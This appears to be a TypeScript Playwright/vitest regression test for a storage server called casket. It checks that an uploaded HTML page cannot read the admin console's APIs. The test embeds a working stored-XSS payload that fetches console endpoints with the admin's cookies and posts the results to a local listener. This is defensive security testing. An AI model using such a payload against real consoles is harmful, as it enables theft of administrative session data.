/**
 * A page any key can store must not script casket's own pages (issue 37,
 * finding 3; docs/design.md §14). A key with PutObject stores pub/x.html
 * whose script asks the console's APIs for what an admin session sees; an
 * admin logged into the console opens its presigned URL in the same browser.
 * The script must not read a byte of any console API: object answers carry
 * `Content-Security-Policy: sandbox` and `X-Content-Type-Options: nosniff`
 * (src/s3/respond.ts).
 */
import { CreateBucketCommand, PutObjectCommand } from '@aws-sdk/client-s3';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { minio, sdk } from '../helpers/clients.js';
import { startInProcess, type InProcessCasket } from '../helpers/in-process.js';
import { haveChromium, launch } from './browser.js';

const APIS = ['setup', 'agents', 'activity?limit=5', 'object?bucket=pub&key=x.html'];

/** What the stored page tries: read each console API with the admin's cookie, and tell a listener what it got. */
function attackPage(reportUrl: string): string {
  return `<!doctype html><html><head><title>stored page</title></head><body><p id="static">stored page</p>
<script>
(async () => {
  const results = [];
  for (const api of ${JSON.stringify(APIS)}) {
    try {
      const res = await fetch('/_casket/console/api/' + api, { credentials: 'include' });
      results.push({ api, status: res.status, body: (await res.text()).slice(0, 400) });
    } catch (e) {
      results.push({ api, error: String(e) });
    }
  }
  document.title = 'ran';
  await fetch(${JSON.stringify(reportUrl)}, { method: 'POST', mode: 'no-cors', body: JSON.stringify(results) });
})();
</script></body></html>`;
}

describe.skipIf(!haveChromium())('stored pages and the console', () => {
  let c: InProcessCasket;
  let browser: Browser;
  let listener: Server;
  const reports: string[] = [];
  let reportUrl: string;

  beforeAll(async () => {
    c = await startInProcess({ keys: ['writer'] });
    browser = await launch();
    listener = createServer((req, res) => {
      let body = '';
      req.on('data', (d: Buffer) => (body += d.toString()));
      req.on('end', () => {
        reports.push(body);
        res.writeHead(204, { 'access-control-allow-origin': '*' }).end();
      });
    });
    await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
    reportUrl = `http://127.0.0.1:${(listener.address() as AddressInfo).port}/report`;
    await sdk(c.url, c.admin).send(new CreateBucketCommand({ Bucket: 'pub' }));
    // Not an admin: any key that may PutObject.
    await sdk(c.url, c.keys.writer!).send(new PutObjectCommand({ Bucket: 'pub', Key: 'x.html', Body: attackPage(reportUrl), ContentType: 'text/html' }));
  });

  afterAll(async () => {
    await browser?.close();
    await new Promise((resolve) => listener?.close(resolve));
    await c?.stop();
  });

  it('an admin who opens a stored page\'s presigned URL keeps the console\'s answers to itself', async () => {
    const context = await browser.newContext();
    const page = await context.newPage();
    // The admin is logged in to the console in this browser.
    await page.goto(`${c.url}/_casket/console`);
    await page.fill('#accessKeyId', c.admin.accessKeyId);
    await page.fill('#secretAccessKey', c.admin.secretAccessKey);
    await Promise.all([page.waitForURL(/\/_casket\/console\/$/), page.click('button[type=submit]')]);
    const setup = await page.evaluate(async () => (await fetch('/_casket/console/api/setup')).status);
    expect(setup).toBe(200);

    const url = await minio(c.url, c.keys.writer!).presignedGetObject('pub', 'x.html', 600);
    const response = await page.goto(url);
    expect(response?.status()).toBe(200);
    // The page itself is shown: the browser did load the stored bytes.
    await expect(page.locator('#static').textContent()).resolves.toBe('stored page');
    // Long enough for the script to read four APIs and report on 127.0.0.1, had it run.
    await new Promise((resolve) => setTimeout(resolve, 1500));
    const read = reports.flatMap((r) => JSON.parse(r) as { api: string; status?: number; body?: string }[]).filter((r) => r.status === 200);
    expect(read).toEqual([]);
    expect(await page.title()).toBe('stored page');
    // Why: the answer puts the page in a sandbox (opaque origin, no script) and forbids sniffing.
    expect(response?.headers()['content-security-policy']).toBe('sandbox');
    expect(response?.headers()['x-content-type-options']).toBe('nosniff');
    await context.close();
  });

  it('casket\'s endpoints that carry object text answer with the same headers, and the console keeps its own policy', async () => {
    for (const path of ['/_casket/diff?bucket=pub&key=x.html&from=current&to=current', '/_casket/merge?bucket=pub&key=x.html', '/_casket/agents/a/changes']) {
      const res = await fetch(`${c.url}${path}`);
      await res.arrayBuffer();
      expect([path, res.headers.get('content-security-policy'), res.headers.get('x-content-type-options')]).toEqual([path, 'sandbox', 'nosniff']);
    }
    const login = await fetch(`${c.url}/_casket/console/login`);
    await login.arrayBuffer();
    expect(login.headers.get('content-security-policy')).toContain("script-src 'self'");
  });
});
